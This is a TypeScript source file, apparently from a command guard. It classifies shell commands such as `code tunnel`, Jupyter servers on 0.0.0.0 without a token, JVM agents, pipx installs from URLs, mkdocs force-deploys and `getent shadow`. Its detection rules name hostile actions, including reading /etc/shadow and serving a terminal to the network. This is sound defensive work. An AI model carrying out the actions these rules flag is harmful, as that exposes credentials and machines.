/** `code tunnel`, `code serve-web`: the editor (terminal included) served to another machine. */
handler('editor-open', (m) => {
  applyRoles(m);
  const v = m.p.positional[0]?.value;
  if (v === 'tunnel' || v === 'serve-web' || m.s.words.some((w) => w.value !== null && /^--(remote|tunnel)/.test(w.value)))
    m.unknown(`${m.label} ${v ?? ''}: serves the editor (and a terminal) to another machine`.replace(/ +:/, ':'));
});

/**
 * Python servers: `jupyter notebook|lab --ip 0.0.0.0` serves the workspace (a terminal and every file) to the
 * network; `--ServerApp.token=''` without a password to anyone. Local servers are left alone.
 */
handler('py-server', (m) => {
  applyRoles(m);
  const ws = m.s.words;
  for (let i = 1; i < ws.length; i++) {
    const v = ws[i].value;
    if (v === null) continue;
    const mm = /^--(?:(?:ServerApp|NotebookApp|LabApp)\.)?(ip|token|password|allow_remote_access|allow-remote-access)(?:=(.*))?$/.exec(v);
    if (!mm) continue;
    const val = mm[2] ?? ws[i + 1]?.value;
    if (mm[1] === 'ip' && (val === null || val === undefined || !/^(localhost|127\.0\.0\.1|::1|\[::1\])$/.test(val)))
      m.unknown(`${m.label} ${v}: serves the workspace (files and a terminal) to the network`);
    else if ((mm[1] === 'token' || mm[1] === 'password') && mm[2] === '') m.unknown(`${m.label} ${v}: a server without a password`);
    else if (mm[1].startsWith('allow')) m.unknown(`${m.label} ${v}: serves the workspace to other machines`);
  }
  // uvicorn/flask/gunicorn --host 0.0.0.0 serve the project's own app: left alone.
});

/** The test binary's own output flags, passed through `go test … -args` (or to a compiled `x.test`). */
const GO_TEST_OUT = /^-?-test\.(coverprofile|cpuprofile|memprofile|blockprofile|mutexprofile|trace|testlogfile|outputdir|gocoverdir)(?:=(.*))?$/;

/**
 * go: the module folders `go mod edit -replace OLD=PATH` and `go work use|init PATH` name are code every later
 * build compiles (judged like a local install); `-args -test.coverprofile=F` writes F.
 */
handler('go', (m) => {
  applyRoles(m);
  const ws = m.s.words;
  const verb = ws[1]?.value;
  for (let i = 2; i < ws.length; i++) {
    const v = ws[i].value;
    if (v === null) continue;
    const out = GO_TEST_OUT.exec(v);
    if (out) {
      const val = out[2] ?? ws[++i]?.value;
      if (typeof val !== 'string') m.unknown(`go ${v}: a file only known at run time`);
      // The test binary runs in each package's folder: a relative name lands beside that package's tests.
      else if (!val.startsWith('/')) m.unknown(`go ${v}: the test binary writes it relative to each package's folder`);
      else m.add('write', undefined, val, `go test ${out[1]}`);
      continue;
    }
    if ((verb === 'mod' || verb === 'work') && /^-?-replace(=|$)/.test(v)) {
      const val = v.includes('=') ? v.slice(v.indexOf('=') + 1) : ws[++i]?.value;
      if (typeof val !== 'string') {
        m.unknown(`go ${verb} edit -replace: a module only known at run time`);
        continue;
      }
      const to = val.slice(val.indexOf('=') + 1).replace(/@[^/]*$/, '');
      if (/^(\/|\.\.?(\/|$)|~)/.test(to)) m.role('I', undefined, to, `go ${verb} edit -replace`);
    }
  }
  if (verb === 'work' && (ws[2]?.value === 'use' || ws[2]?.value === 'init'))
    for (const w of ws.slice(3)) if (w.value === null || !w.value.startsWith('-')) m.role('I', w, w.value, `go work ${ws[2].value}`);
  // `go vet -fix ./...` applies the analyzers' suggested fixes: it rewrites the packages' .go files, tests included,
  // as `go fix` and `gofmt -w` do.
  if (verb === 'vet' && ws.some((w) => w.value === null || /^--?fix(=(true|t|1))?$/i.test(w.value))) {
    const pkgs = ws.slice(2).filter((w) => w.value === null || !w.value.startsWith('-'));
    if (pkgs.length === 0) m.add('write', undefined, '.', 'go vet -fix (applies its suggested fixes)', RECURSIVE, ['*.go']);
    for (const w of pkgs) {
      const dots = w.value === null ? null : /^(.*?)\/?\.\.\.$/.exec(w.value);
      m.path('Y', dots ? undefined : w, dots ? dots[1] || '.' : w.value, 'go vet -fix (applies its suggested fixes)', 0, ['*.go']);
    }
  }
});

/**
 * The JVM's agents and PHP's prepended files load code before the program: `java -javaagent:/tmp/a.jar`,
 * `-agentpath:/tmp/a.so`, a class path from scratch space (`java -cp /tmp Main`), the same flags inside
 * `-Dorg.gradle.jvmargs=…` or `JAVA_TOOL_OPTIONS`-style values, and `php -d auto_prepend_file=/tmp/x.php`.
 */
export function preloadedCode(m: Model, words: readonly W[]): void {
  for (let i = 1; i < words.length; i++) {
    const v = words[i].value;
    if (v === null) continue;
    for (const a of v.matchAll(/(?:^|[\s=])-(?:javaagent|agentpath):([^=\s]+)/g)) m.role('X', undefined, a[1], 'a JVM agent');
    if ((v === '-cp' || v === '-classpath' || v === '--class-path') && typeof words[i + 1]?.value === 'string')
      for (const c of words[i + 1].value!.split(':')) if (c.startsWith('/') || c.startsWith('~') || c.startsWith('..')) m.role('X', undefined, c, 'java -cp');
    const php = /^(?:-d\s*)?(auto_prepend_file|auto_append_file|extension|zend_extension)=(.+)$/.exec(v);
    if (php && (words[i - 1]?.value === '-d' || v.startsWith('-d'))) m.role('X', undefined, php[2], `php -d ${php[1]}`);
  }
}

handler('jvm-agents', (m) => {
  applyRoles(m);
  preloadedCode(m, m.s.words);
});

/** Toolchains' eval verbs: `mix eval CODE`, `crystal eval CODE`, `sbt eval`-style verbs take code, not paths. */
handler('toolchain', (m) => {
  applyRoles(m);
  if (m.s.words[1]?.value === 'eval') m.unknown(`${m.s.name} eval runs code in a language the guard does not read`);
  toolchainOutputs(m);
});

/**
 * Where a toolchain writes, and which compiler it runs: `zig build --prefix DIR` / `-p DIR` installs into DIR; nim's
 * `--outdir:DIR`, `--out:FILE`, `--nimcache:DIR` are its outputs, and `--NAME.exe:PATH` / `--NAME.linkerexe:PATH` the
 * compiler or linker it runs (a program like any other: from outside the workspace it is code nobody has seen).
 */
function toolchainOutputs(m: Model): void {
  const ws = m.s.words;
  for (let i = 1; i < ws.length; i++) {
    const v = ws[i].value;
    if (v === null) continue;
    if (m.s.name === 'zig') {
      const eq = /^(?:--prefix|-p)=(.+)$/.exec(v);
      if (eq) m.path('W', undefined, eq[1], 'zig --prefix', INTO);
      else if ((v === '--prefix' || v === '-p') && ws[i + 1] !== undefined) m.path('W', ws[i + 1], ws[i + 1].value, `zig ${v}`, INTO);
    } else if (m.s.name === 'nim') {
      const out = /^--?(outdir|out|o|nimcache)[:=](.+)$/.exec(v);
      if (out) m.path('W', undefined, out[2], `nim --${out[1]}`, out[1] === 'out' || out[1] === 'o' ? 0 : INTO);
      const exe = /^--[\w.]*\.(?:exe|linkerexe)[:=](.+)$/.exec(v);
      if (exe) m.path('X', undefined, exe[1], 'nim (its compiler or linker)');
    }
  }
}

/** mkdocs: `gh-deploy --force` force-pushes the built site over the remote branch (git push --force is asked). */
handler('mkdocs', (m) => {
  applyRoles(m);
  if (m.s.words[1]?.value === 'gh-deploy' && m.has('force'))
    m.unknown('mkdocs gh-deploy --force force-pushes the site over the remote branch, replacing its history');
});

/** pipx install|inject|upgrade … git+URL / URL / --spec URL: a package from a repository or URL nobody has seen. */
handler('remote-pkg', (m) => {
  applyRoles(m);
  for (const w of m.s.words.slice(1)) {
    const v = w.value;
    if (v === null) continue;
    const val = /^--(spec|index-url|pip-args)=(.*)$/.exec(v)?.[2] ?? v;
    if (REMOTE_SOURCE.test(val) || /(^|\s)git\+/.test(val)) m.unknown(`${m.label} ${v}: installs code from a repository or URL the guard cannot see`);
  }
});

/**
 * getent DATABASE [KEY…]: the shadow databases are /etc/shadow and /etc/gshadow read through NSS, so they are
 * judged as those reads (a credential store); every other database (hosts, passwd, group, services) is public.
 */
handler('getent', (m) => {
  const ws = m.s.words;
  let db: string | null | undefined;
  for (let i = 1; i < ws.length; i++) {
    const v = ws[i].value;
    if (v !== null && v.startsWith('-')) {
      // -s SERVICE / --service=…, -i, --no-idn: options before the database.
      if (v === '-s' || v === '--service') i++;
      continue;
    }
    db = v;
    break;
  }
  if (db === null) return m.unknown('getent reads a database named at run time');
  if (db !== undefined && /^g?shadow$/.test(db)) m.path('R', undefined, db === 'shadow' ? '/etc/shadow' : '/etc/gshadow', `getent ${db}`);
});

// ---- cargo watch ----

/** `cargo watch -x 'test --lib'`: each -x value is the words of a cargo command, judged as `cargo …` runs it. */
handler('cargo-watch', (m) => {
  applyRoles(m);
  for (const o of m.p.occ) {
    if (o.opt.key !== '-x') continue;
    if (typeof o.value !== 'string') m.unknown(`${m.label} -x runs a cargo command only known at run time`);
    else m.host.shell(m.s, `cargo ${o.value}`, `${m.label} -x`);
  }
});
